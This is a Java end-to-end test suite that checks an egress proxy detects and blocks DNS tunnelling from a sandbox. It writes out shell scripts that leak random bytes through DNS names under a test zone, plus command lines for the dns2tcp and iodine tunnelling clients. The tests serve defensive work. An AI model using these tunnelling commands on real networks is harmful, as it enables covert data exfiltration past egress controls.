package io.trimus.egress.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.smallrye.reactive.messaging.kafka.companion.KafkaCompanion;
import io.trimus.egress.dns.TestUpstreamDns;
import io.trimus.events.Topics;
import io.trimus.testing.DockerClients;
import io.trimus.testing.TestImages;
import io.trimus.testing.TrimusInfraResource;
import org.eclipse.microprofile.config.ConfigProvider;
import org.jboss.logging.Logger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * A real sandbox, started by the real adapter service, tunnels through the proxy's own lookups: it connects through
 * the explicit proxy to {@code <sequence><40 hex characters>.tun.trimus.test}, a fresh name each time, under the
 * company's allow-listed wildcard, so each name the proxy resolves reaches this test's upstream DNS (where the
 * owner of the zone would read it). The end-to-end stack blocks (TRIMUS_EGRESS_TUNNELLING_ACTION=block): the names
 * are scored, the sandbox is suspected within 200 names and before 2 KB of payload reached the upstream, every
 * connection after that is refused (403) and no name of it reaches the upstream, the sandbox's next lookup under the
 * base domain is REFUSED, the run's end carries a note saying so, and the API lists the {@code suspected_tunnelling}
 * anomaly with its score and signals.
 */
@QuarkusTest
@WithTestResource(value = TrimusInfraResource.class, scope = TestResourceScope.GLOBAL)
@WithTestResource(value = EgressNetworkResource.class, scope = TestResourceScope.GLOBAL)
class TunnellingEndToEndTest {
    private static final Logger LOG = Logger.getLogger(TunnellingEndToEndTest.class);
    private static final String ZONE = "tun.trimus.test";
    private static final String PROXY = "http://" + EgressNetworkResource.GATEWAY + ":"
            + EgressNetworkResource.PROXY_PORT;
    private static final int NAMES = 160;
    private static final int BYTES_PER_NAME = 20;
    private static final Pattern LINE = Pattern.compile("n=(\\d+) name=(\\S+) connect=(\\d+)");

    private static TestUpstreamDns upstream;
    private static KafkaCompanion kafka;
    private static String tools;
    private static String tunnelTools;

    @TestHTTPResource("/")
    URI egressService;

    @BeforeAll
    static void start() {
        tools = TestImages.httpTools(DockerClients.local());
        tunnelTools = TestImages.tunnelTools(DockerClients.local());
        upstream = new TestUpstreamDns().startReserved();
        kafka = new KafkaCompanion(ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class));
    }

    @AfterAll
    static void stop() {
        if (upstream != null) {
            upstream.close();
        }
        if (kafka != null) {
            kafka.close();
        }
    }

    @Test
    void aTunnelThroughTheProxysLookupsIsBlockedAndNothingLeavesAfter() throws Exception {
        UUID company = UUID.randomUUID();
        SandboxRuns.allow(company, "*." + ZONE);
        String script = "i=0; while [ $i -lt " + NAMES + " ]; do "
                + "d=$(head -c " + BYTES_PER_NAME + " /dev/urandom | od -An -tx1 | tr -d ' \\n'); "
                + "name=$i$d." + ZONE + "; "
                + "code=$(curl -s -o /dev/null --max-time 5 -x " + PROXY + " -w '%{http_connect}' https://$name/); "
                + "echo \"n=$i name=$name connect=$code\"; i=$((i+1)); done; "
                + "echo \"lookup=$(nslookup fresh.$i." + ZONE + " >/dev/null 2>&1 && echo resolved || echo refused)\"";
        UUID run = UUID.randomUUID();
        SandboxRuns.sharedAdapter(egressService);

        JsonNode status = SandboxRuns.publishAndAwait(kafka, Topics.RUN_REQUESTED, run,
                SandboxRuns.sandboxRequest(run, company, tools, script, 240), Duration.ofSeconds(300));

        String output = status.path("output").asText();
        assertThat(status.path("status").asText()).as(output).isEqualTo("SUCCEEDED");
        List<String> refused = new ArrayList<>();
        List<String> passed = new ArrayList<>();
        int firstRefused = -1;
        Matcher line = LINE.matcher(output);
        while (line.find()) {
            if (line.group(3).equals("403")) {
                refused.add(line.group(2));
                firstRefused = firstRefused < 0 ? Integer.parseInt(line.group(1)) : firstRefused;
            } else {
                assertThat(refused).as("nothing passes once refused: " + line.group()).isEmpty();
                passed.add(line.group(2));
            }
        }
        assertThat(passed.size() + refused.size()).as(output).isEqualTo(NAMES);
        LOG.infof("tunnel of %d B/name: suspected at name %d, %d payload bytes resolved upstream before",
                BYTES_PER_NAME, firstRefused, passed.size() * BYTES_PER_NAME);
        assertThat(firstRefused).as("suspected within 200 names").isBetween(1, 200);
        assertThat(passed.size() * BYTES_PER_NAME).as("payload bytes out before").isLessThan(2048);

        Set<String> seenUpstream = upstream.namesSeen().stream().filter(name -> name.endsWith("." + ZONE))
                .collect(Collectors.toSet());
        assertThat(seenUpstream).as("what the zone's owner read: only names before the block")
                .doesNotContainAnyElementsOf(refused).isSubsetOf(passed);
        assertThat(output).contains("lookup=refused");
        assertThat(status.path("notes").toString()).as("the run's notes say why its connections were refused")
                .contains("suspected tunnelling: names under *.trimus.test").contains("refused for the rest of the run");

        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            JsonNode suspected = SandboxRuns.anomalies(company, null).stream()
                    .filter(a -> a.path("reason").asText().equals("suspected_tunnelling")
                            && a.path("qname").asText().equals("*.trimus.test"))
                    .findFirst().orElseThrow(() -> new AssertionError("no suspected_tunnelling anomaly yet"));
            assertThat(suspected.path("enforced").asBoolean()).isTrue();
            assertThat(suspected.path("score").asDouble()).isGreaterThanOrEqualTo(0.8);
            assertThat(suspected.path("signals")).isNotEmpty();
            assertThat(suspected.path("run_id").asText()).isEqualTo(run.toString());
        });
    }

    /**
     * The real clients, Debian's dns2tcpc and iodine, in a sandbox pointed at the resolver with the zone
     * allow-listed: dns2tcp asks TXT (or KEY) only, so its first query (its authentication) is REFUSED
     * (qtype_denied) and it gives up; iodine needs root and a tun device, neither of which a sandbox has (it runs as a
     * non-root user, without /dev/net/tun or NET_ADMIN), and stops before it asks anything. Not one of their names
     * reaches the upstream DNS.
     */
    @Test
    void theRealTunnellingClientsGetNothingOut() throws Exception {
        UUID company = UUID.randomUUID();
        SandboxRuns.allow(company, "*." + ZONE);
        upstream.clearQueries();
        String resolver = EgressNetworkResource.GATEWAY;
        String script = "head -c 3000 /dev/urandom | base64 | dns2tcpc -z " + ZONE + " -r ssh -l - -t 2 " + resolver
                + " > /tmp/d 2>&1; echo \"dns2tcp_exit=$?\"; head -5 /tmp/d; "
                + "iodine -f -r -P secret -T CNAME " + resolver + " " + ZONE + " > /tmp/i 2>&1 & p=$!; "
                + "sleep 5; kill $p 2>/dev/null; head -5 /tmp/i; echo iodine_done";
        UUID run = UUID.randomUUID();
        SandboxRuns.sharedAdapter(egressService);

        JsonNode status = SandboxRuns.publishAndAwait(kafka, Topics.RUN_REQUESTED, run,
                SandboxRuns.sandboxRequest(run, company, tunnelTools, script, 60), Duration.ofSeconds(120));

        String output = status.path("output").asText();
        LOG.infof("the real clients in a sandbox:%n%s", output);
        assertThat(status.path("status").asText()).as(output).isEqualTo("SUCCEEDED");
        assertThat(output).as("dns2tcp's authentication was refused").contains("Auth error")
                .contains("iodine_done");
        assertThat(output).as("iodine stopped before its first query: a sandbox runs it neither as root nor with a tun"
                + " device").containsPattern("iodine: (Run as root|open_tun)");
        assertThat(upstream.namesSeen()).as("nothing of either reached the upstream")
                .noneMatch(name -> name.endsWith(ZONE));
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> assertThat(SandboxRuns.anomalies(company, null))
                .anyMatch(a -> a.path("reason").asText().equals("qtype_denied")
                        && a.path("qname").asText().endsWith(ZONE) && a.path("qtype").asText().equals("TXT")));
    }
}
